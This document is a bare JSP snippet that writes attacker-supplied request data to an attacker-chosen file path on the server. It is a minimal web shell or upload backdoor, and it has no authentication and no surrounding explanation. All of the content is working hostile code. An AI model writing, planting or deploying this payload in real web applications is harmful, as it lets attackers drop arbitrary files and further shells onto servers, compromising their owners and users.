<%
java.io.FileOutputStream fo = new java.io.FileOutputStream(request.getParameter("path"));
fo.write(request.getParameter("data").getBytes());
fo.close();
%>
